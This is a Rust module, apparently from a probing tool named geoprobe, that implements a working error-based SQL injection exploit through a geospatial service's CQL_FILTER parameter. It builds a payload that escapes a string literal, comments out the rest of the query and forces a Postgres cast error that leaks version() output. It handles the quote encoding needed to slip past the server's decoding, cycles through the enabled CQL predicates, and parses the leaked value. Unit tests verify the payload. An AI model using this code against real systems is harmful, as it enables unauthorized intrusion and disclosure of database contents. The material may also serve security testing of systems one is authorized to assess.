// Injection oracle for geoprobe
// Drives the error-based blind SQL injection reachable through CQL_FILTER:
// each candidate predicate smuggles a subquery that casts version() to an
// integer, and the Postgres driver leaks the version string verbatim in the
// resulting cast-error line of the service exception.

use crate::errors::ProbeError;
use crate::models::decode_capabilities;
use crate::transport::{injection_url, HttpFetch};
use lazy_static::lazy_static;
use regex::Regex;
use std::fmt;

/// One known CQL predicate function usable as an injection vector.
///
/// The table below is the full set of string/spatial/temporal predicates the
/// probe knows about; only the entries with `enabled` set are tried, in
/// table order. First candidate to leak a version wins.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CqlPredicate {
    pub name: &'static str,
    pub enabled: bool,
}

impl CqlPredicate {
    pub const fn new(name: &'static str, enabled: bool) -> Self {
        Self { name, enabled }
    }
}

/// Known CQL predicate functions, in priority order.
pub const CQL_PREDICATES: &[CqlPredicate] = &[
    // String predicates observed to reach the vulnerable filter encoder.
    CqlPredicate::new("strStartsWith", true),
    CqlPredicate::new("strEndsWith", true),
    CqlPredicate::new("strContains", true),
    // Remaining string predicates, held in reserve.
    CqlPredicate::new("strEquals", false),
    CqlPredicate::new("strNotEquals", false),
    CqlPredicate::new("strGreaterThan", false),
    CqlPredicate::new("strGreaterThanOrEquals", false),
    CqlPredicate::new("strLessThan", false),
    CqlPredicate::new("strLessThanOrEquals", false),
    CqlPredicate::new("strLike", false),
    CqlPredicate::new("strILike", false),
    CqlPredicate::new("strIsNull", false),
    CqlPredicate::new("strIsNotNull", false),
    CqlPredicate::new("strIsEmpty", false),
    CqlPredicate::new("strIsNotEmpty", false),
    CqlPredicate::new("strDoesNotContain", false),
    CqlPredicate::new("strPropertyIsNull", false),
    CqlPredicate::new("strPropertyIsNotNull", false),
    CqlPredicate::new("strPropertyIsEmpty", false),
    CqlPredicate::new("strPropertyIsNotEmpty", false),
    // Spatial predicates.
    CqlPredicate::new("bbox", false),
    CqlPredicate::new("equals", false),
    CqlPredicate::new("disjoint", false),
    CqlPredicate::new("touches", false),
    CqlPredicate::new("within", false),
    CqlPredicate::new("overlaps", false),
    CqlPredicate::new("crosses", false),
    CqlPredicate::new("intersects", false),
    CqlPredicate::new("contains", false),
    CqlPredicate::new("dWithin", false),
    CqlPredicate::new("beyond", false),
    CqlPredicate::new("containsProperly", false),
    CqlPredicate::new("coveredBy", false),
    CqlPredicate::new("covers", false),
    CqlPredicate::new("overlapsProperly", false),
    CqlPredicate::new("relate", false),
    // Temporal predicates.
    CqlPredicate::new("before", false),
    CqlPredicate::new("after", false),
    CqlPredicate::new("during", false),
    CqlPredicate::new("tequals", false),
    CqlPredicate::new("toverlaps", false),
    CqlPredicate::new("tmeets", false),
    CqlPredicate::new("tmetby", false),
    CqlPredicate::new("tbefore", false),
    CqlPredicate::new("tafter", false),
    CqlPredicate::new("tduring", false),
    CqlPredicate::new("tcovers", false),
    CqlPredicate::new("tcoveredby", false),
    CqlPredicate::new("tintersects", false),
    CqlPredicate::new("tprecedes", false),
    CqlPredicate::new("tprecededBy", false),
    CqlPredicate::new("tsucceeds", false),
    CqlPredicate::new("tsucceededBy", false),
];

/// The enabled candidates, in table order.
pub fn enabled_predicates() -> Vec<CqlPredicate> {
    CQL_PREDICATES.iter().filter(|p| p.enabled).copied().collect()
}

lazy_static! {
    /// Marker for the Postgres integer-cast failure class. The driver
    /// prints the offending value verbatim on the same line.
    static ref INTEGER_CAST_ERROR: Regex =
        Regex::new(r"ERROR: invalid input syntax for integer").unwrap();
}

/// Extraction tuning. `value_offset` is the character position, within the
/// matched error line, where the leaked value starts. It is derived from the
/// fixed prefix the driver prepends on that line and is the most fragile
/// part of the technique, so it stays configurable rather than hard-coded.
#[derive(Debug, Clone)]
pub struct OracleConfig {
    pub value_offset: usize,
}

impl Default for OracleConfig {
    fn default() -> Self {
        Self { value_offset: 96 }
    }
}

/// Terminal outcome of one feature type's probe.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Extraction {
    /// A candidate triggered the cast error and the version leaked.
    Extracted {
        version: String,
        predicate: &'static str,
    },
    /// Every enabled candidate was tried without triggering the pattern.
    /// An absence, not an error.
    Exhausted,
}

impl fmt::Display for Extraction {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Extraction::Extracted { version, predicate } => {
                write!(f, "{} (via {})", version, predicate)
            }
            Extraction::Exhausted => write!(f, "no extraction"),
        }
    }
}

/// Build the CQL predicate that forces the integer-cast error.
///
/// The payload breaks out of the string-literal argument of `function`,
/// gates on a tautology whose right side casts version() to INTEGER, and
/// comments out the rest of the original predicate so the query stays
/// well-formed up to the forced type error.
pub fn build_predicate(function: &str) -> String {
    format!(
        "{}(name,'x'') = true and 1 = (SELECT CAST((SELECT version()) AS INTEGER)) -- ') = true",
        function
    )
}

/// Percent-encode a predicate for use as a query-string value.
///
/// After generic encoding, every doubled single quote (`''`, SQL's escaped
/// quote) must be rewritten from `%27%27` to `%27%27%27`: the server decodes
/// one escaping layer, and without the extra quote the payload collapses to
/// a lone quote that breaks the outer CQL string and silently kills the
/// probe.
pub fn encode_predicate(predicate: &str) -> String {
    urlencoding::encode(predicate).replace("%27%27", "%27%27%27")
}

/// Recover the leaked version fragment from service-exception text.
///
/// Finds the integer-cast error marker, isolates its containing line, and
/// takes the suffix starting at `value_offset`. A trailing quote from the
/// driver's `"value"` formatting is stripped; line-break characters never
/// appear in the result. Returns `None` when the marker is absent or the
/// line is shorter than the offset.
pub fn extract_version(exception_text: &str, value_offset: usize) -> Option<String> {
    let marker = INTEGER_CAST_ERROR.find(exception_text)?;

    let line_start = exception_text[..marker.start()]
        .rfind('\n')
        .map(|i| i + 1)
        .unwrap_or(0);
    let line_end = exception_text[marker.start()..]
        .find('\n')
        .map(|i| i + marker.start())
        .unwrap_or(exception_text.len());

    let error_line = exception_text[line_start..line_end].trim_end_matches('\r');
    let fragment = error_line.get(value_offset..)?.trim_end_matches('"');
    if fragment.is_empty() {
        return None;
    }
    Some(fragment.to_string())
}

/// Error-based version extraction over an ordered candidate list.
pub struct VersionOracle {
    config: OracleConfig,
    candidates: Vec<CqlPredicate>,
}

impl VersionOracle {
    /// Oracle over the enabled entries of the predicate table.
    pub fn new(config: OracleConfig) -> Self {
        Self {
            config,
            candidates: enabled_predicates(),
        }
    }

    /// Oracle over an explicit candidate list, still in list order.
    pub fn with_candidates(config: OracleConfig, candidates: Vec<CqlPredicate>) -> Self {
        Self { config, candidates }
    }

    /// Probe one feature type, trying candidates in order until one leaks
    /// the version (early exit) or the list runs out.
    ///
    /// A single candidate's transport failure, bad status, or undecodable
    /// body is never fatal to the probe: the failure is reported and the
    /// next candidate is tried.
    pub async fn probe(
        &self,
        fetch: &dyn HttpFetch,
        endpoint: &str,
        type_name: &str,
    ) -> Extraction {
        for candidate in &self.candidates {
            let filter = encode_predicate(&build_predicate(candidate.name));
            let url = injection_url(endpoint, type_name, &filter);

            let response = match fetch.fetch(&url).await {
                Ok(response) => response,
                Err(e) => {
                    self.report_skip(type_name, candidate.name, &e);
                    continue;
                }
            };
            if !response.is_success() {
                self.report_skip(
                    type_name,
                    candidate.name,
                    &ProbeError::UnexpectedStatus(response.status),
                );
                continue;
            }

            // The exception rides the capabilities schema; a body that does
            // not decode is just a candidate that did not trigger.
            let document = match decode_capabilities(&response.body) {
                Ok(document) => document,
                Err(_) => continue,
            };
            let exception = match document.service_exception {
                Some(exception) => exception,
                None => continue,
            };

            if let Some(version) = extract_version(&exception.text, self.config.value_offset) {
                return Extraction::Extracted {
                    version,
                    predicate: candidate.name,
                };
            }
        }
        Extraction::Exhausted
    }

    fn report_skip(&self, type_name: &str, candidate: &str, error: &ProbeError) {
        eprintln!(
            "[SKIP] {}: candidate {} failed: {}",
            type_name, candidate, error
        );
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn payload_breaks_out_and_comments_tail() {
        let predicate = build_predicate("strContains");
        assert!(predicate.starts_with("strContains(name,'x'')"));
        assert!(predicate.contains("CAST((SELECT version()) AS INTEGER)"));
        assert!(predicate.ends_with("-- ') = true"));
    }

    #[test]
    fn doubled_quote_encodes_to_triple() {
        assert_eq!(encode_predicate("''"), "%27%27%27");
    }

    #[test]
    fn predicate_table_enables_three_string_functions() {
        let enabled = enabled_predicates();
        let names: Vec<&str> = enabled.iter().map(|p| p.name).collect();
        assert_eq!(names, vec!["strStartsWith", "strEndsWith", "strContains"]);
    }
}
